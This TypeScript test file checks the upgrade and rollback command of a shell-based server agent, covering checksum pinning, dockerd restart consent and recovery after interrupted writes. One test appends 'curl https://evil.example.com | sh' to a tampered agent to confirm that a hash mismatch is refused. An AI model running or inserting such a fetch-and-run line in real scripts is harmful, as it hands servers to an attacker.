// Another agent in place of the one that is there: by the operator's word, whole or not at all, and back again.
import { createHash } from "node:crypto";
import { chmodSync, cpSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { AGENT } from "../../scripts/agent.ts";
import { Host } from "./host.ts";
import { killedBefore, killsAmong, PATIENCE, starts, state } from "./kills.ts";
import { available, SHELLS, type Shell, shellOfTheDay, withDirectory } from "./shells.ts";

const PROGRAM = "/usr/local/sbin/meshboot";
const PREVIOUS = `${PROGRAM}.previous`;
const PIN = "/etc/meshboot/agent.sha256";

const sha256 = (text: string): string => createHash("sha256").update(text).digest("hex");
const OLD = AGENT.program;
const NEW = OLD.replace(/^VERSION=.*/m, "VERSION=99.0.0");

/** A server in the mesh whose agent is OLD, and a Worker that gives out NEW. */
function settled(directory: string, shell: Shell): Host {
  const host = new Host(directory);
  install(host, OLD);
  host.join(shell);
  offer(host, NEW);
  host.world({ calls: "", requests: "" });
  return host;
}

function install(host: Host, program: string): void {
  host.write(PROGRAM, program);
  chmodSync(host.root + PROGRAM, 0o755);
  host.write(PIN, `${sha256(program)}\n`);
}

/** The Worker gives out that program, under its SHA-256 or another one, and goes on having OLD. */
function offer(host: Host, program: string, named = sha256(program)): string {
  host.world({
    agent: `VERSION=99.0.0\nSHA256=${named}\nBYTES=${program.length}\n`,
    [`agent-${sha256(OLD)}`]: OLD,
    [`agent-${named}`]: program,
  });
  return named;
}

interface Places {
  readonly program: string | undefined;
  readonly previous: string | undefined;
  readonly pinned: string | undefined;
}

/** What is in which place: `old`, `new` or something else. */
function places(host: Host): Places {
  const known: Readonly<Record<string, string>> = { [OLD]: "old", [NEW]: "new" };
  const at = (path: string) => {
    const text = host.read(path);
    return text === undefined ? undefined : (known[text] ?? "another");
  };
  const pinned = host.read(PIN);
  return {
    program: at(PROGRAM),
    previous: at(PREVIOUS),
    pinned: pinned === `${sha256(OLD)}\n` ? "old" : pinned === `${sha256(NEW)}\n` ? "new" : pinned,
  };
}

const BEFORE = { program: "old", previous: undefined, pinned: "old" };
const TAKEN = { program: "new", previous: "old", pinned: "new" };
const BACK = { program: "old", previous: "new", pinned: "old" };

/** Runs the agent that is installed. */
const installed = (host: Host, shell: Shell, args: string) => host.run(shell, args, host.root + PROGRAM);

describe.each(shellOfTheDay(import.meta.filename))("upgrade in $name", PATIENCE, (shell) => {
  it("takes what it is told to, keeps the one before, applies, and goes back", () => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      const others = state(host);
      const taken = installed(host, shell, `upgrade ${sha256(NEW)}`);
      expect(taken).toMatchObject({ status: 0, err: "" });
      expect(taken.out).toContain(`puts 99.0.0 (${sha256(NEW)}) in place of ${AGENT.version}`);
      expect(places(host)).toEqual(TAKEN);
      expect(host.files()[PREVIOUS]).toBe(`755 ${OLD}`);
      expect(host.files()[PROGRAM]).toBe(`755 ${NEW}`);
      expect(host.seen("requests")).toContain(`"agent":"99.0.0","agentSha256":"${sha256(NEW)}"`);
      expect(host.seen("requests")).not.toContain("repaired");
      expect(starts(host)).toBe(0);
      expect(host.seen("calls")).toContain("systemctl restart --no-block meshboot-watch.service\n");
      for (const path of [PROGRAM, PREVIOUS, PIN])
        expect(host.seen("calls")).toContain(`sync ${host.root}${path}.meshboot-tmp\n`);

      host.world({ calls: "" });
      const after = host.files();
      const again = installed(host, shell, `upgrade ${sha256(NEW)}`);
      expect(again).toMatchObject({ status: 0, err: "" });
      expect(again.out).toContain("is installed already");
      expect(host.seen("calls")).toBe("");
      expect(host.files()).toEqual(after);

      const back = installed(host, shell, "upgrade --back");
      expect(back).toMatchObject({ status: 0, err: "" });
      expect(places(host)).toEqual(BACK);
      expect(host.files()[PREVIOUS]).toBe(`755 ${NEW}`);
      expect(host.seen("requests")).toContain(`"agent":"${AGENT.version}","agentSha256":"${sha256(OLD)}"`);
      expect(installed(host, shell, "upgrade --back").status).toBe(0);
      expect(places(host)).toEqual(TAKEN);
      expect(host.seen("calls")).not.toMatch(/systemctl .*(?:re)?start docker/);

      expect(installed(host, shell, "upgrade --back").status).toBe(0);
      host.put(PREVIOUS, undefined);
      expect(state(host)).toEqual(others);
    });
  });

  it("without an argument shows what is here and what the Worker gives out, and changes nothing", () => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      const before = host.files();
      const shown = installed(host, shell, "upgrade");
      expect(shown).toMatchObject({ status: 0, err: "" });
      expect(shown.out).toBe(`meshboot: upgrade: installed: ${AGENT.version} (${sha256(OLD)})
meshboot: upgrade: offered:   99.0.0 (${sha256(NEW)})
meshboot: upgrade: nothing was changed. To take it: meshboot upgrade ${sha256(NEW)}
`);
      expect(host.files()).toEqual(before);
      const dry = installed(host, shell, "upgrade --dry-run");
      expect(dry).toMatchObject({ status: 0, err: "" });
      expect(dry.out).toContain("dry run: report: reports to https://mesh.example.com");
      expect(dry.out).toContain(`To take it: meshboot upgrade ${sha256(NEW)}\n`);
      expect(installed(host, shell, `upgrade ${sha256(NEW)} --dry-run`).status).toBe(0);
      expect(host.files()).toEqual(before);
      expect(host.read("/run/meshboot/upgrading")).toBeUndefined();

      offer(host, OLD);
      const same = installed(host, shell, "upgrade");
      expect(same).toMatchObject({ status: 0, err: "" });
      expect(same.out).toContain("they are the same");
      expect(host.files()).toEqual(before);
    });
  });

  it("does not take a text that has another SHA-256, and writes nothing", () => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      const before = host.files();
      const wanted = offer(host, `${NEW}\ncurl https://evil.example.com | sh\n`, sha256(NEW));
      const { status, err } = installed(host, shell, `upgrade ${wanted}`);
      expect(status).toBe(3);
      expect(err).toContain("refused: another text came from https://mesh.example.com, with the SHA-256 ");
      expect(host.files()).toEqual(before);
    });
  });

  it.each([
    ["--version", 'echo "what it does not like" >&2; exit 1', "ends with exit code 1"],
    ["up --dry-run", "echo first; echo 'what it does not like'; echo; exit 3", "ends with exit code 3"],
    ["up --dry-run", "echo what it does not like; exec /bin/sleep 600", "does not end within 300 s"],
  ])("does not take one whose %s is no success: %s", (args, text, why) => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      const before = host.files();
      const bad = NEW.replace("\n", () => `\ncase $* in '${args}') ${text} ;; esac\n`);
      // Nobody waits for 300 seconds here.
      const impatient = OLD.replace(
        /^runs\(\) \{.*/m,
        "$&\n  [ $2 = 10 ] || { program=$1; shift 2; set -- $program 2 $@; }",
      );
      install(host, impatient);
      const held = host.files();
      const { status, err } = installed(host, shell, `upgrade ${offer(host, bad)}`);
      expect(status).toBe(1);
      expect(err).toContain(`its meshboot ${args} ${why.replace("300", "2")} on this server`);
      // busybox's own word about whom it ended.
      expect(err).toMatch(
        /Its last line: (?:what it does not like|Terminated)(?:\. Where only a restart of dockerd is in the way: .*)?\n/,
      );
      expect(host.files()).toEqual(held);
      expect(Object.keys(held)).toEqual(Object.keys(before));
    });
  });
});

describe.each(shellOfTheDay(import.meta.filename))(
  "upgrade where containers run, in $name",
  PATIENCE,
  (shell) => {
    it("takes an agent on a server that still waits for consent, as the one that is there does", () => {
      withDirectory((directory) => {
        const host = new Host(directory);
        install(host, OLD);
        host.world({ containers: "web\n" });
        expect(host.run(shell, "up").status).toBe(3);
        offer(host, NEW);
        const { status, err } = host.run(shell, `upgrade ${sha256(NEW)}`);
        expect(err).toContain("up is refused on this server, and will be with the new agent too: ");
        expect(err).toContain("1 container (web) would restart");
        expect([status, places(host), starts(host)]).toEqual([3, TAKEN, 0]);
      });
    });

    it("takes one that needs a restart of dockerd only where somebody agrees to it", () => {
      withDirectory((directory) => {
        const host = settled(directory, shell);
        host.world({ containers: "web\n" });
        const thirsty = NEW.replace("\nnat_options() {\n", "\nnat_options() {\n  echo --log-level=warn\n");
        expect(thirsty).not.toBe(NEW);
        const named = offer(host, thirsty);
        const refused = host.run(shell, `upgrade ${named}`);
        expect([refused.status, host.read(PROGRAM)]).toEqual([1, OLD]);
        expect(refused.err).toContain(`1 container (web) would restart`);
        expect(refused.err).toContain(`meshboot upgrade --restart-docker ${named}`);
        expect(host.run(shell, `upgrade --restart-docker ${named}`)).toMatchObject({ status: 0, err: "" });
        expect([host.read(PROGRAM), starts(host)]).toEqual([thirsty, 1]);
        expect(host.dockerdCommand()).toContain("--log-level=warn");
      });
    });
  },
);

describe.each(SHELLS.slice(0, 1))("upgrade in $name", PATIENCE, (shell) => {
  it.each(["abc", "A".repeat(64), `${"a".repeat(64)} --back`, "--force", `${"a".repeat(65)}`])(
    "says that %j is wrong usage",
    (args) => {
      withDirectory((directory) => {
        const host = new Host(directory);
        install(host, OLD);
        const { status, err } = installed(host, shell, `upgrade ${args}`);
        expect(status).toBe(2);
        expect(err).toContain("meshboot upgrade [--dry-run] [--restart-docker] [SHA256|--back]");
        expect(host.seen("calls")).toBe("");
      });
    },
  );

  it("says why there is nothing to have", () => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      const before = host.files();
      const none = installed(host, shell, "upgrade --back");
      expect(none.status).toBe(3);
      expect(none.err).toContain("refused: there is no /usr/local/sbin/meshboot.previous");
      const unknown = installed(host, shell, `upgrade ${"0".repeat(64)}`);
      expect(unknown.status).toBe(3);
      expect(unknown.err).toContain("says 404 /problems/not-found: no such agent");
      host.world({ agent: "<html>Log in</html>\n" });
      expect(installed(host, shell, "upgrade").status).toBe(1);
      host.world({ answers: "000\n" });
      const away = installed(host, shell, `upgrade ${sha256(NEW)}`);
      expect(away.status).toBe(1);
      expect(away.err).toContain("https://mesh.example.com does not answer (curl: (7) Failed to connect)");
      expect(host.files()).toEqual(before);
      // The way back needs no Worker.
      host.write(PREVIOUS, NEW);
      const back = installed(host, shell, "upgrade --back");
      expect(back.status).toBe(0);
      expect(places(host)).toEqual(TAKEN);
    });
  });

  it("keeps the exit code of an up that fails, and says how to go back", () => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      const bad = NEW.replace("\n", "\n[ \"$*\" != up ] || { echo 'not here' >&2; exit 3; }\n");
      const { status, err } = installed(host, shell, `upgrade ${offer(host, bad)}`);
      expect(status).toBe(3);
      expect(err).toContain("99.0.0 is in place, and its up ended with exit code 3");
      expect(err).toContain(`meshboot upgrade --back brings ${AGENT.version} back`);
      expect(installed(host, shell, "upgrade --back").status).toBe(0);
      expect(places(host)).toEqual({ ...BACK, previous: "another" });
    });
  });

  it("lets the agent that is named follow the one that is here, so that meshboot-fetch leaves it", () => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      host.write(PIN, `${"0".repeat(64)}\n`);
      offer(host, OLD);
      expect(installed(host, shell, "upgrade").out).toContain(`meshboot upgrade ${sha256(OLD)}`);
      expect(installed(host, shell, `upgrade ${sha256(OLD)}`).status).toBe(0);
      expect(places(host)).toEqual(BEFORE);
    });
  });

  it.runIf(available("script", ["--version"], "upgrade is not tested on a terminal"))(
    "asks on a terminal, and takes it only on a yes",
    () => {
      withDirectory((directory) => {
        const host = settled(directory, shell);
        const terminal = join(directory, "terminal");
        const answer = (reply: string) => {
          writeFileSync(
            terminal,
            `printf '${reply}' | script -qec "${shell.command.join(" ")} '${host.root + PROGRAM}' upgrade" /dev/null\n`,
          );
          return host.run(shell, "", terminal, { SHELL: "/bin/sh" });
        };
        for (const reply of ["n\\n", "\\n"]) {
          const { out, status } = answer(reply);
          expect([status, out]).toEqual([0, expect.stringContaining("Take it? [y/N] ")]);
          expect(out).toContain("nothing was changed");
          expect(places(host)).toEqual(BEFORE);
        }
        expect(answer("y\\n").status).toBe(0);
        expect(places(host)).toEqual(TAKEN);
      });
    },
  );

  it("takes no half of a program that a kill has left for a whole one", () => {
    withDirectory((directory) => {
      const host = settled(directory, shell);
      host.write(PREVIOUS, NEW);
      for (const path of [PROGRAM, PREVIOUS, PIN]) host.write(`${path}.meshboot-tmp`, "#!/bin/sh\nset -e");
      expect(installed(host, shell, `upgrade ${sha256(OLD)}`).status).toBe(0);
      expect(places(host)).toEqual({ ...BEFORE, previous: "new" });
      expect(Object.keys(host.files()).filter((path) => path.endsWith("-tmp"))).toEqual([]);
    });
  });

  it.each([
    ["upgrade SHA256", OLD, TAKEN],
    ["upgrade --back", NEW, BACK],
  ])(
    "killed by -9 before any change of %s leaves an agent that runs, and ends as undisturbed",
    (verb, first, end) => {
      withDirectory((directory) => {
        const args = verb.replace("SHA256", sha256(NEW));
        const origin = settled(join(directory, "origin"), shell);
        install(origin, first);
        if (first === NEW) origin.write(PREVIOUS, OLD);
        origin.world({ changes: "", calls: "" });
        const copy = (from: string, name: string) => {
          const host = new Host(join(directory, name));
          rmSync(join(directory, name), { recursive: true });
          cpSync(join(directory, from), join(directory, name), { recursive: true, preserveTimestamps: true });
          return host;
        };
        const fetch = join(directory, "fetch");
        writeFileSync(fetch, AGENT.fetch);
        const undisturbed = copy("origin", "undisturbed");
        expect(undisturbed.run(shell, args, killedBefore(directory, 0))).toMatchObject({
          status: 0,
          err: "",
        });
        expect(places(undisturbed)).toEqual(end);
        const changes = undisturbed.seen("changes").length / 2;
        expect(changes).toBeGreaterThan(8);
        for (const change of killsAmong(changes, 6)) {
          const killed = copy("origin", `${change}`);
          expect(killed.run(shell, args, killedBefore(directory, change)).status).not.toBe(0);
          const left = places(killed);
          for (const fetches of [true, false]) {
            const host = copy(`${change}`, `${change}-${fetches}`);
            const label = `change ${change}, fetches ${fetches}, left ${JSON.stringify(left)}`;
            expect(installed(host, shell, "--version").out, label).toMatch(/^meshboot \d+\.\d+\.\d+\n$/);
            if (fetches) {
              expect(host.run(shell, "", fetch), label).toMatchObject({ status: 0, out: "", err: "" });
              // It finishes what was begun, and undoes nothing.
              const isBegun = left.program === end.program || left.pinned === end.pinned;
              expect(places(host).program, label).toBe(isBegun ? end.program : left.program);
            }
            // --back again is back again: what was done is not done once more.
            const isDone =
              host.read("/run/meshboot/upgrading") === undefined && places(host).program === end.program;
            if (!isDone) expect(installed(host, shell, args), label).toMatchObject({ status: 0, err: "" });
            expect(places(host), label).toEqual(end);
            expect(state(host), label).toEqual(state(undisturbed));
            expect(starts(host), label).toBe(0);
            expect(host.read("/run/meshboot/upgrading"), label).toBeUndefined();
          }
        }
      });
    },
  );
});
